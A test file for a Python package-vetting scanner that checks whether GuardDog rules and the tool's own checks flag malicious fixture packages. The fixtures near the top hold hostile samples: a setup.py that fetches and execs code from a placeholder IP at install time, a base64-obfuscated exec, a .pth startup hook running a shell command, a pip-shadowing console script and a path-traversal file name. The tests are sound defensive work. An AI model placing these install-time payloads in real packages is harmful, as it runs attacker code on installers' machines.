"""Suspicious code: GuardDog's rules and curate's own checks on fixture packages (curate.codescan).

GuardDog loads once per process (about a second), so the packages are scanned once for the module."""

from __future__ import annotations

import base64
import os
from collections.abc import Sequence
from pathlib import Path

import pytest

from curate import codescan
from curate.vetting import CodeHit
from tests.wheels import Dist, build_dist

DOWNLOAD_EXEC = b"""\
import os
import urllib.request
from setuptools import setup

payload = urllib.request.urlopen("http://203.0.113.7/stage2.py").read()
exec(payload)
setup(name="fetchexec", version="1.0")
"""
BASE64_EXEC = b"import base64\nexec(base64.b64decode('" + base64.b64encode(b"print('hidden')") + b"'))\n"
PTH = b"# a startup hook\nimport os; os.system('id')\n"

DISTS = {
    "fetchexec": Dist(
        name="fetchexec", version="1.0", wheel_tags=(), sdist_files=[("setup.py", DOWNLOAD_EXEC)]
    ),
    "b64exec": Dist(
        name="b64exec", version="1.0", wheel_files=[("b64exec/_boot.py", BASE64_EXEC)], sdist=False
    ),
    "pthhook": Dist(name="pthhook", version="1.0", wheel_files=[("pthhook-init.pth", PTH)], sdist=False),
    "shadow": Dist(
        name="shadow",
        version="1.0",
        wheel_files=[
            ("{dist_info}/entry_points.txt", b"[console_scripts]\nshadow = shadow:main\npip = shadow:pip\n")
        ],
        sdist=False,
    ),
    "extra": Dist(name="extra", version="1.0", wheel_files=[("extra/payload.py", b"VALUE = 1\n")]),
    "clean": Dist(
        name="clean",
        version="1.0",
        wheel_files=[
            (
                "clean/util.py",
                b"import json\n\ndef load(path):\n    with open(path) as fh:\n        return json.load(fh)\n",
            ),
            ("{dist_info}/entry_points.txt", b"[console_scripts]\nclean = clean:main\n"),
            ("clean-paths.pth", b"# a plain path entry\nsrc\n"),
        ],
        sdist_files=[("clean/util.py", b"import json\n")],
    ),
}


@pytest.fixture(scope="module")
def scans(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Sequence[CodeHit]]:
    out: dict[str, Sequence[CodeHit]] = {}
    base = tmp_path_factory.mktemp("codescan")
    rules = codescan.rules_run({})
    for name, dist in DISTS.items():
        paths = build_dist(dist, base / name)
        scratch = base / f"{name}-scratch"
        scratch.mkdir()
        result = codescan.scan_version(name, [(p.name, p) for p in paths], rules, scratch)
        out[name] = result.hits
    return out


def _rules(hits: Sequence[CodeHit]) -> set[str]:
    return {h.rule for h in hits}


def test_a_setup_py_that_downloads_and_executes(scans: dict[str, Sequence[CodeHit]]) -> None:
    hits = scans["fetchexec"]
    assert {"threat-process-download-exec", "threat-setup-network-in-install"} <= _rules(hits)
    exec_hit = next(h for h in hits if h.rule == "threat-process-download-exec")
    assert exec_hit.file == "fetchexec-1.0.tar.gz"
    assert exec_hit.path == "fetchexec-1.0/setup.py"
    assert exec_hit.line in (5, 6)
    assert exec_hit.message.startswith("Detects download-and-execute patterns")


def test_base64_exec(scans: dict[str, Sequence[CodeHit]]) -> None:
    (hit,) = [h for h in scans["b64exec"] if h.rule == "threat-runtime-obfuscation-base64exec"]
    assert (hit.file, hit.path, hit.line) == ("b64exec-1.0-py3-none-any.whl", "b64exec/_boot.py", 2)


def test_a_pth_startup_hook(scans: dict[str, Sequence[CodeHit]]) -> None:
    (hit,) = [h for h in scans["pthhook"] if h.rule == "pth-exec"]
    assert (hit.path, hit.line) == ("pthhook-init.pth", 2)
    assert hit.message == "runs at every interpreter start: `import os; os.system('id')`"


def test_a_console_script_named_like_a_common_command(scans: dict[str, Sequence[CodeHit]]) -> None:
    (hit,) = [h for h in scans["shadow"] if h.rule == "command-shadowing"]
    assert hit.path == "shadow-1.0.dist-info/entry_points.txt"
    assert hit.line == 3
    assert hit.message == "console script 'pip' takes the name of a common command"


def test_a_wheel_with_code_its_sdist_lacks(scans: dict[str, Sequence[CodeHit]]) -> None:
    (hit,) = [h for h in scans["extra"] if h.rule == "wheel-only-code"]
    assert hit.file == "extra-1.0-py3-none-any.whl"
    assert hit.message == "1 Python file(s) not in extra-1.0.tar.gz: extra/payload.py"


def test_a_clean_package_has_no_finding(scans: dict[str, Sequence[CodeHit]]) -> None:
    assert scans["clean"] == ()


def test_the_ruleset_names_guarddog_curate_and_the_rules_run() -> None:
    default = codescan.ruleset_id({})
    assert default.startswith("guarddog-")
    assert "+curate-" in default
    assert codescan.ruleset_id({"pth-exec": "off"}) != default  # a rule turned off: scanned again
    assert codescan.ruleset_id({"pth-exec": "block"}) == default  # only the decision changed
    assert "threat-process-download-exec" in codescan.known_rules()
    assert "pth-exec" in codescan.known_rules()


def test_guarddog_never_goes_to_the_network_when_it_loads() -> None:
    # conftest refuses every socket but 127.0.0.1: loading GuardDog here raising nothing is the proof;
    # its popular-package lists come from a folder of curate's, not GuardDog's installation
    codescan._analyzer()
    assert "curate-guarddog-" in os.environ["GUARDDOG_TOP_PACKAGES_CACHE_LOCATION"]


def test_unsafe_and_oversized_members_are_said_not_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(codescan, "MAX_MEMBER_BYTES", 40)
    d = Dist(name="big", version="1.0", wheel_files=[("big/large.py", b"x = 1\n" * 10)], sdist=False)
    (wheel,) = build_dist(d, tmp_path / "d")
    (tmp_path / "s").mkdir()
    hits = codescan.scan_version("big", [(wheel.name, wheel)], ("scan-incomplete",), tmp_path / "s").hits
    assert [(h.rule, h.path) for h in hits] == [("scan-incomplete", "big/large.py")]
    assert hits[0].message == "60 bytes, more than the scan reads"
    evil = Dist(name="evil", version="1.0", wheel_files=[("../escape.py", b"x = 1\n")], sdist=False)
    (wheel,) = build_dist(evil, tmp_path / "e")
    (tmp_path / "s2").mkdir()
    hits = codescan.scan_version("evil", [(wheel.name, wheel)], ("scan-incomplete",), tmp_path / "s2").hits
    assert [(h.path, h.message) for h in hits] == [("../escape.py", "unsafe path, not scanned")]
    assert not (tmp_path / "escape.py").exists()
